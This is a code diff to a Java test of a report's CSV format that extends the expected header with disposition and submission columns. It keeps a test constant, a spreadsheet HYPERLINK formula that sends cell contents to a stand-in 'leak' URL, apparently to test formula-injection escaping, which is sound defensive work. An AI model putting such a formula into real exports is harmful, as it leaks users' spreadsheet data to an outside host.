@@ -34,7 +34,8 @@ class ReportFormatTest {
 
     /** The report's columns as docs/contract.md names them, spelled out so the test does not read them from the code. */
     private static final List<String> HEADER = List.of("source", "organization", "fiscalYear", "strategy", "severity",
-            "code", "location", "message_ja", "message_en", "cells", "rule");
+            "code", "location", "message_ja", "message_en", "cells", "rule", "submissionId", "disposition",
+            "disposition_ja", "disposition_comment", "disposition_by", "disposition_at");
 
     static final String HYPERLINK = "=HYPERLINK(\"https://example.invalid/?leak=\"&A1,\"詳細\")";
 
@@ -139,7 +140,7 @@ class ReportFormatTest {
             String csv = new String(written(ReportFormat.CSV, SampleReports.empty()), StandardCharsets.UTF_8);
 
             assertThat(csv).isEqualTo("\uFEFFsource,organization,fiscalYear,strategy,severity,code,location,message_ja,message_en,"
-                    + "cells,rule\r\n");
+                    + "cells,rule,submissionId,disposition,disposition_ja,disposition_comment,disposition_by,disposition_at\r\n");
         }
 
         private static List<Map<String, String>> read(byte[] csv) {
